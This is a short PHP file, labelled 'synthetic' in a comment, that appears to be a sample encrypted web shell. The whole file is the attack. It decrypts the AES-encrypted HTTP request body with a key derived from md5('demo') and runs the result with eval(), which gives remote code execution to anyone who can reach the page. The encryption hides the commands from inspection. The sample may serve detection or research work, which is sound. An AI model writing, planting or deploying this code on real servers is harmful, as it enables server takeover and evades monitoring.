<?php
// synthetic: AES-encrypted request body decrypted and evaluated
$k = substr(md5('demo'), 0, 16);
$body = file_get_contents('php://input');
$code = openssl_decrypt($body, 'AES128', $k);
eval($code . '');
